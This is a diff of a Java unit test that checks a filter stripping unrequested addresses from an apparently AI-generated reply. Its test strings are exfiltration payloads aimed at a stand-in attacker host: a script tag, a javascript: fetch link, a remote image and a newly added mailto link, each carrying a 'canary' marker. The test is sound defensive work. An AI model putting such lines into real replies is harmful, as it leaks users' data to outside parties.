@@ -23,6 +23,7 @@ class SafeReplyTest {
                 "<script src=\"https://evil.example/canary.js\"></script>",
                 "[x](javascript:fetch('https://evil.example/?d=canary'))",
                 "![x](//evil.example/canary)",
+                "Write to mailto:evil@evil.example?body=canary please",
             })
     void anAddressThatTheUserDidNotWriteIsTakenOut(String reply) {
         assertThat(SafeReply.of(reply, "How is web-0?"))
